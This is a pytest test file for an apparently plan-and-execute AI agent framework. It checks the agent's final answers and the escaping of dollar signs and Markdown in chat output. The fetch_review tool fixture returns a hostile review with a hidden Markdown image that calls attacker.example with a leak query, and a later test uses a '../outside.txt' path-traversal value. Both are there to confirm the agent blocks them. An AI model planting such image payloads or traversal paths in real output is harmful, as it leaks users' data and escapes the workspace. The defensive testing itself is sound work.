"""What people read is right: the final answer says what came out, and Markdown a human reads
never turns dollar amounts into math (issue 33)."""

from __future__ import annotations

from typing import Any

import pytest
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from planexec import build_graph
from planexec.tools import ToolRegistry, current_workspace
from tests.helpers import plan_of, plan_reply, scripted, step, text_reply, thread


@tool
def portfolio_value() -> float:
    """The value of the portfolio, in USD."""
    return 3956.25


@tool
def save_text(path: str, text: str) -> dict[str, Any]:
    """Write text to a file of the workspace."""
    current_workspace().write_bytes(path, text.encode())
    return {"path": path, "bytes": len(text)}


@tool
def price_list() -> str:
    """A line with prices."""
    return "the basic plan costs $5 and the team plan $6"


@tool
def fetch_review() -> str:
    """The latest customer review: a backslash before an image and a formula."""
    return "Great! \\\\![pixel](http://attacker.example/t.png?leak=1) costs \\\\$x^2$"


@tool
def big_table() -> dict[str, Any]:
    """A large table."""
    return {"rows": [{"n": i, "name": f"row {i}"} for i in range(400)]}


def registry() -> ToolRegistry:
    tools = ToolRegistry()
    tools.register(portfolio_value, side_effects=False)
    tools.register(price_list, side_effects=False)
    tools.register(big_table, side_effects=False)
    tools.register(fetch_review, side_effects=False)
    tools.register(save_text, side_effects=True, file_fields=["path"])
    return tools


def run(use_models: Any, ctx: Any, plan: dict[str, Any], *replies: Any, **context: Any) -> Any:
    use_models(planner=scripted(plan_reply(plan)), executor=scripted(*replies))
    graph = build_graph(checkpointer=InMemorySaver(), tools=registry())
    config, run_ctx = thread(), ctx(**context)
    graph.invoke({"task": "What is my portfolio worth?"}, config, context=run_ctx)
    return graph.invoke(Command(resume="approve"), config, context=run_ctx)


def test_the_answer_states_the_computed_value_and_the_file_written(use_models, ctx, workspace):
    """Step 1 computes the value, step 2 (nothing depends on it) saves it: the answer gives
    3956.25 and names portfolio.txt, in final["answer"] and in the chat's AI message."""
    plan = plan_of(
        step(1, "portfolio_value", {}),
        step(2, "save_text", {"path": "portfolio.txt", "text": "Worth: ${1}"}, [1]),
        goal="Work out the portfolio's value and save it",
    )
    out = run(use_models, ctx, plan)
    assert out["final"]["status"] == "succeeded"
    answer = out["final"]["answer"]
    assert "3956.25" in answer
    assert "portfolio.txt" in answer
    assert "Work out the portfolio" not in answer  # not the plan's goal
    shown = out["messages"][-1].content
    assert "3956.25" in shown and "portfolio.txt" in shown
    assert (workspace / "portfolio.txt").read_text() == "Worth: 3956.25"


def test_a_model_step_that_writes_the_answer_is_the_answer(use_models, ctx, workspace):
    plan = plan_of(
        step(1, "portfolio_value", {}),
        step(2, None, {"value": "$1"}, [1], expected="one sentence"),
        goal="Tell the portfolio's value",
    )
    out = run(use_models, ctx, plan, text_reply("Your portfolio is worth 3,956.25 USD."))
    answer = out["final"]["answer"]
    assert answer.startswith("Your portfolio is worth 3,956.25 USD.")
    assert "Tell the portfolio" not in answer


def test_a_spilled_result_is_named_with_where_to_read_it(use_models, ctx, workspace):
    out = run(use_models, ctx, plan_of(step(1, "big_table", {})), inline_output_limit=1024)
    answer = out["final"]["answer"]
    assert out["steps"]["1"]["output"] is None  # spilled
    assert "Step 1" in answer and "--output 1" in answer
    assert "row 0" in answer  # its preview


def test_dollar_amounts_are_escaped_in_the_chat_not_in_the_json(use_models, ctx, workspace):
    out = run(use_models, ctx, plan_of(step(1, "price_list", {})))
    assert out["final"]["answer"] == "the basic plan costs $5 and the team plan $6"
    shown = out["messages"][-1].content
    assert "costs \\$5 and the team plan \\$6" in shown


def test_a_tool_output_cannot_put_an_image_or_a_formula_in_the_chat(use_models, ctx, workspace):
    """CommonMark reads "\\\\" as a literal backslash: the "![" after it was a live image, which
    the reader's browser fetched as soon as the answer showed (the URL can carry data)."""
    from markdown_it import MarkdownIt

    out = run(use_models, ctx, plan_of(step(1, "fetch_review", {})))
    assert out["final"]["answer"] == fetch_review.invoke({})  # JSON: as the tool returned it
    shown = out["messages"][-1].content
    html = MarkdownIt("commonmark", {"html": False}).render(shown)
    assert "<img" not in html, html
    assert "costs \\\\\\$x^2\\$" in shown  # a literal backslash, then two escaped dollars


@pytest.mark.parametrize("where", ["interrupt", "chat"])
def test_the_approvals_cost_line_is_not_a_formula(use_models, ctx, workspace, where):
    """Agent Chat UI reads $…$ as LaTeX: every dollar sign of the description is escaped."""
    plan = plan_of(step(1, None, {"about": "prices"}, expected="a sentence"))
    use_models(planner=scripted(plan_reply(plan)))
    price = {"input": 2.0, "output": 8.0}
    prices = {spec: price for spec in ("test:planner", "test:executor", "test:evaluator")}
    graph = build_graph(checkpointer=InMemorySaver(), tools=registry())
    run_ctx = ctx(model_prices=prices, max_cost=5.0)
    out = graph.invoke({"task": "t"}, thread(), context=run_ctx)
    request = out["__interrupt__"][0].value
    text = request["description"] if where == "interrupt" else out["messages"][-1].content
    assert "\\$" in text
    assert "$" not in text.replace("\\$", "")
    assert request["action_requests"][0]["description"] == request["description"]
    assert isinstance(request["estimate"]["expected"]["cost"][0], float)  # JSON: numbers


def test_a_run_that_failed_part_way_still_states_what_it_computed(use_models, ctx, workspace):
    plan = plan_of(
        step(1, "portfolio_value", {}),
        step(2, "save_text", {"path": "../outside.txt", "text": "Worth: ${1}"}, [1]),
    )
    out = run(use_models, ctx, plan, max_replans=0, step_max_attempts=1)
    assert out["final"]["status"] == "partial"
    answer = out["final"]["answer"]
    assert "3956.25" in answer and "Not done" in answer
